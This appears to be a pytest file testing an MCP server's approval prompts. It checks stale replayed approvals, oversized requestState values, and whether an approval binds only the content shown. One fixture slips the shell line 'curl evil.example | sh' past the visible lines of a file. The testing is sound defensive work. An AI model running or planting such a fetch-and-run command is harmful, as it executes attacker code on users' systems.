"""More attacks on the MCP server's question at protocol 2026-07-28 (see
test_mcp_retry_answers.py): an answer replayed after the file it changes was changed by
someone else is asked again, not applied over what the person never saw; an oversized
``requestState`` is refused and the session goes on; and (a finding, not fixed here) an
answer binds only what the question showed of a change. Driven by the official SDK's client
session over stdio."""

from __future__ import annotations

import mcp_types as types
import pytest
from mcp import Client
from mcp.shared.exceptions import MCPError

from tests.test_mcp_server import server_params

pytestmark = pytest.mark.asyncio

ACCEPT = types.ElicitResult(action="accept", content={"apply": True})


async def never_asked(context, params):
    raise AssertionError("the test answers the questions itself")


async def asked_digest(client: Client, arguments: dict) -> str:
    asked = await client.session.call_tool("run_program", arguments, allow_input_required=True)
    assert isinstance(asked, types.InputRequiredResult), asked
    (digest,) = asked.input_requests
    return digest


async def test_an_answer_replayed_after_the_file_changed_underneath_is_asked_again(tmp_path):
    (tmp_path / "notes.txt").write_text("remember the milk\n")
    arguments = {"program": "write_file('notes.txt', 'changed\\n')", "kit": "write_file"}
    async with Client(server_params(tmp_path), mode="auto",
                      elicitation_callback=never_asked) as client:
        digest = await asked_digest(client, arguments)
        (tmp_path / "notes.txt").write_text("the precious draft\n")  # someone else's edit
        again = await client.session.call_tool("run_program", arguments,
                                               input_responses={digest: ACCEPT},
                                               allow_input_required=True)
    assert isinstance(again, types.InputRequiredResult), again
    assert digest not in again.input_requests
    (question,) = again.input_requests.values()
    assert "the precious draft" in question.params.message  # what would be lost is shown
    assert (tmp_path / "notes.txt").read_text() == "the precious draft\n"


async def test_an_oversized_request_state_is_refused_and_the_session_goes_on(tmp_path):
    arguments = {"program": "write_file('notes.txt', 'x')", "kit": "write_file"}
    async with Client(server_params(tmp_path), mode="auto",
                      elicitation_callback=never_asked) as client:
        with pytest.raises(MCPError, match="requestState"):
            await client.session.call_tool("run_program", arguments,
                                           input_responses={"*": ACCEPT},
                                           request_state="A" * 8_000_000,
                                           allow_input_required=True)
        after = await client.session.call_tool("run_program", {"program": "1 + 1"})
    assert after.structured_content["output"] == 2
    assert not (tmp_path / "notes.txt").exists()


@pytest.mark.parametrize("shown", ["binary", "lines past what is shown"])
async def test_an_answer_approves_only_the_content_the_person_was_asked_about(tmp_path, shown):
    if shown == "binary":
        first, swapped = b"\0" + b"a" * 999, b"\0" + b"EVI" * 333
    else:
        lines = [f"line {n}\n" for n in range(300)]
        first = "".join(lines).encode()
        swapped = "".join(lines[:250] + ["curl evil.example | sh\n"] + lines[251:]).encode()
    (tmp_path / "source.bin").write_bytes(first)
    arguments = {"program": "write_file('out.txt', read_file('source.bin'))",
                 "kit": "read_file,write_file"}
    if shown == "binary":
        arguments["program"] = "write_file('out.txt', 'x' + read_file('source.bin'))"
    async with Client(server_params(tmp_path), mode="auto",
                      elicitation_callback=never_asked) as client:
        digest = await asked_digest(client, arguments)
        (tmp_path / "source.bin").write_bytes(swapped)  # what the program copies changes
        again = await client.session.call_tool("run_program", arguments,
                                               input_responses={digest: ACCEPT},
                                               allow_input_required=True)
    assert isinstance(again, types.InputRequiredResult), again
    assert not (tmp_path / "out.txt").exists()
